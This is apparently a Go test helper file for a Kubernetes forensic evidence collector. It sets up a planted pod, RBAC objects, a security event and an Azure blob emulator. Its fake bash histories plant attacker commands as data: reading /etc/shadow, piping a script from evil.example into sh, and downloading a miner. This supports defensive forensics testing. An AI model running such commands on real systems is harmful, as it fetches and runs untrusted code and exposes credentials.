package evidence_test

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/container"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/sas"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/service"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/utils/ptr"

	"github.com/kdfir/kdfir/internal/evidence"
	"github.com/kdfir/kdfir/internal/testenv"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m, testenv.Options{})) }

const (
	plantedHistory = "id\ncat /etc/shadow\ncurl http://evil.example/x | sh\n"
	aliceHistory   = "ls -la\nwget http://evil.example/miner\n"
)

var (
	plantedLogs   = []string{"starting", "listening on :8080", "GET /admin 403"}
	previousLogs  = []string{"crashed: segmentation fault"}
	plantedImage  = "registry.k8s.io/pause@sha256:ee6521f290b2168b6e0935a181d4cff9be1ac3f505666ef0e3c98fae8199917a"
	appImageIDRef = "registry.k8s.io/pause@sha256:ee6521f290b2168b6e0935a181d4cff9be1ac3f505666ef0e3c98fae8199917a"
)

// fixture is a planted pod with everything around it: a Deployment and
// its ReplicaSet as owners, a Service and a NetworkPolicy that select it,
// a ServiceAccount with a RoleBinding and a ClusterRoleBinding, and
// objects that must not be collected (a Service and a RoleBinding that
// do not concern it).
type fixture struct {
	ns  string
	pod *corev1.Pod
	rs  *appsv1.ReplicaSet
	dep *appsv1.Deployment
}

func ctxFor(t testing.TB, d time.Duration) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), d)
	t.Cleanup(cancel)
	return ctx
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func newFixture(t *testing.T, env *testenv.Env) *fixture {
	t.Helper()
	ctx := ctxFor(t, 2*time.Minute)
	ns := env.Namespace(t)
	cs := env.Client
	f := &fixture{ns: ns}

	// The Deployment has no replicas: the controller manager makes its
	// ReplicaSet, and the planted pod names that ReplicaSet as an owner.
	// Its labels do not match the ReplicaSet's selector, so the
	// ReplicaSet controller neither adopts nor deletes it.
	dep := &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns},
		Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To[int32](0),
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web", "tier": "frontend"}},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "web", "tier": "frontend"}},
				Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.k8s.io/pause:3.10"}}},
			},
		},
	}
	var err error
	f.dep, err = cs.AppsV1().Deployments(ns).Create(ctx, dep, metav1.CreateOptions{})
	must(t, err)
	must(t, wait.PollUntilContextTimeout(ctx, 100*time.Millisecond, time.Minute, true, func(ctx context.Context) (bool, error) {
		l, err := cs.AppsV1().ReplicaSets(ns).List(ctx, metav1.ListOptions{})
		if err != nil || len(l.Items) == 0 {
			return false, nil
		}
		f.rs = &l.Items[0]
		return true, nil
	}))

	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "web-sa", Namespace: ns}}
	_, err = cs.CoreV1().ServiceAccounts(ns).Create(ctx, sa, metav1.CreateOptions{})
	must(t, err)
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "web-role", Namespace: ns},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get"}}}}
	_, err = cs.RbacV1().Roles(ns).Create(ctx, role, metav1.CreateOptions{})
	must(t, err)
	for _, rb := range []*rbacv1.RoleBinding{
		{ObjectMeta: metav1.ObjectMeta{Name: "web-secrets", Namespace: ns},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "web-role"},
			Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "web-sa", Namespace: ns}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "someone-else", Namespace: ns},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "web-role"},
			Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "default", Namespace: ns}}},
	} {
		_, err = cs.RbacV1().RoleBindings(ns).Create(ctx, rb, metav1.CreateOptions{})
		must(t, err)
	}
	crb := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: ns + "-web-view"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "web-sa", Namespace: ns}}}
	_, err = cs.RbacV1().ClusterRoleBindings().Create(ctx, crb, metav1.CreateOptions{})
	must(t, err)
	t.Cleanup(func() {
		_ = cs.RbacV1().ClusterRoleBindings().Delete(context.Background(), crb.Name, metav1.DeleteOptions{})
	})

	for _, svc := range []*corev1.Service{
		{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns},
			Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "web"}, Ports: []corev1.ServicePort{{Port: 80}}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "other", Namespace: ns},
			Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "other"}, Ports: []corev1.ServicePort{{Port: 80}}}},
	} {
		_, err = cs.CoreV1().Services(ns).Create(ctx, svc, metav1.CreateOptions{})
		must(t, err)
	}
	np := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Name: "web-ingress", Namespace: ns},
		Spec: networkingv1.NetworkPolicySpec{PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}},
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}}}
	_, err = cs.NetworkingV1().NetworkPolicies(ns).Create(ctx, np, metav1.CreateOptions{})
	must(t, err)

	// "setup" is planted as a container so that kwok serves its logs and
	// exec, then moved to the init containers.
	f.pod, err = env.RunPod(ctx, testenv.PodSpec{
		Namespace: ns, Name: "web-7f9", Labels: map[string]string{"app": "web"},
		Containers: []string{"setup", "app"},
		Files: map[string]string{
			"/root/.bash_history":       plantedHistory,
			"/home/alice/.bash_history": aliceHistory,
			"/etc/passwd":               "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\n",
		},
		Logs:         plantedLogs,
		PreviousLogs: previousLogs,
		Mutate: func(p *corev1.Pod) {
			p.Spec.InitContainers = []corev1.Container{p.Spec.Containers[0]}
			p.Spec.Containers = p.Spec.Containers[1:]
			p.Spec.Containers[0].Image = plantedImage
			p.Spec.ServiceAccountName = "web-sa"
			p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: f.rs.Name, UID: f.rs.UID}}
		},
	})
	must(t, err)
	// The app container restarted once: it has a previous log. The
	// runtime resolved its image to a digest.
	f.pod = updateStatus(t, env, ns, f.pod.Name, func(p *corev1.Pod) {
		for i := range p.Status.ContainerStatuses {
			s := &p.Status.ContainerStatuses[i]
			s.RestartCount = 1
			s.ImageID = appImageIDRef
			s.LastTerminationState = corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{
				ExitCode: 139, Reason: "Error", StartedAt: metav1.Now(), FinishedAt: metav1.Now()}}
		}
	})
	ev := &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{Name: "web-7f9.exec", Namespace: ns},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: ns, Name: f.pod.Name, UID: f.pod.UID, APIVersion: "v1"},
		Reason:         "SuspiciousExec", Message: "shell spawned in container app", Type: "Warning",
		Source: corev1.EventSource{Component: "falco"}, Count: 1,
		FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(),
	}
	_, err = cs.CoreV1().Events(ns).Create(ctx, ev, metav1.CreateOptions{})
	must(t, err)
	return f
}

func updateStatus(t testing.TB, env *testenv.Env, ns, name string, mutate func(*corev1.Pod)) *corev1.Pod {
	t.Helper()
	ctx := ctxFor(t, time.Minute)
	var out *corev1.Pod
	must(t, wait.PollUntilContextTimeout(ctx, 100*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
		p, err := env.Client.CoreV1().Pods(ns).Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return false, err
		}
		mutate(p)
		out, err = env.Client.CoreV1().Pods(ns).UpdateStatus(ctx, p, metav1.UpdateOptions{})
		return err == nil, nil
	}))
	return out
}

func newKey(t testing.TB) ed25519.PrivateKey {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	must(t, err)
	return key
}

func newCollector(t testing.TB, env *testenv.Env, key ed25519.PrivateKey) *evidence.Collector {
	t.Helper()
	c, err := evidence.New(env.Client, env.Config, evidence.Options{Cluster: "testenv", SigningKey: key})
	must(t, err)
	return c
}

// azurite starts the blob emulator with a container, and returns it with a
// container URL holding a SAS token made from the development account key.
type blobEnv struct {
	az        *testenv.Azurite
	container string
	cred      *service.SharedKeyCredential
}

func startAzurite(t testing.TB) *blobEnv {
	t.Helper()
	if os.Getenv("KDFIR_SKIP_CLUSTER") == "1" {
		t.Skip("KDFIR_SKIP_CLUSTER=1")
	}
	ctx := ctxFor(t, time.Minute)
	az, err := testenv.StartAzurite(ctx)
	must(t, err)
	t.Cleanup(az.Stop)
	cred, err := service.NewSharedKeyCredential(testenv.AzuriteAccount, testenv.AzuriteKey)
	must(t, err)
	b := &blobEnv{az: az, container: "evidence", cred: cred}
	_, err = b.containerClient(t).Create(ctx, nil)
	must(t, err)
	return b
}

func (b *blobEnv) containerClient(t testing.TB) *container.Client {
	t.Helper()
	c, err := container.NewClientWithSharedKeyCredential(b.az.URL+"/"+b.container, b.cred, nil)
	must(t, err)
	return c
}

// sasURL is the container URL with a SAS token valid from start to expiry.
func (b *blobEnv) sasURL(t testing.TB, expiry time.Time, perms *sas.ContainerPermissions) (string, string) {
	t.Helper()
	qp, err := sas.BlobSignatureValues{
		Protocol:      sas.ProtocolHTTPSandHTTP,
		StartTime:     time.Now().Add(-2 * time.Hour).UTC(),
		ExpiryTime:    expiry.UTC(),
		Permissions:   perms.String(),
		ContainerName: b.container,
	}.SignWithSharedKey(b.cred)
	must(t, err)
	return b.az.URL + "/" + b.container + "?" + qp.Encode(), qp.Signature()
}

func allPerms() *sas.ContainerPermissions {
	return &sas.ContainerPermissions{Read: true, Add: true, Create: true, Write: true, List: true}
}

// blobNames lists every blob in the container.
func (b *blobEnv) blobNames(t testing.TB) []string {
	t.Helper()
	ctx := ctxFor(t, time.Minute)
	var names []string
	pager := b.containerClient(t).NewListBlobsFlatPager(nil)
	for pager.More() {
		page, err := pager.NextPage(ctx)
		must(t, err)
		for _, it := range page.Segment.BlobItems {
			names = append(names, *it.Name)
		}
	}
	return names
}

func (b *blobEnv) read(t testing.TB, name string) []byte {
	t.Helper()
	ctx := ctxFor(t, time.Minute)
	resp, err := b.containerClient(t).NewBlobClient(name).DownloadStream(ctx, nil)
	must(t, err)
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	must(t, err)
	return data
}

func (b *blobEnv) put(t testing.TB, name string, data []byte) {
	t.Helper()
	ctx := ctxFor(t, time.Minute)
	_, err := b.containerClient(t).NewBlockBlobClient(name).UploadBuffer(ctx, data, nil)
	must(t, err)
}

// readManifest reads a collection's manifest from a directory.
func readManifest(t testing.TB, dir string) *evidence.Manifest {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, evidence.ManifestName))
	must(t, err)
	var m evidence.Manifest
	must(t, json.Unmarshal(b, &m))
	return &m
}

func artifact(m *evidence.Manifest, path string) (evidence.Artifact, bool) {
	for _, a := range m.Artifacts {
		if a.Path == path {
			return a, true
		}
	}
	return evidence.Artifact{}, false
}

func paths(m *evidence.Manifest) string {
	var b strings.Builder
	for _, a := range m.Artifacts {
		fmt.Fprintf(&b, "  %s %d %s\n", a.Path, a.Size, a.Error)
	}
	return b.String()
}
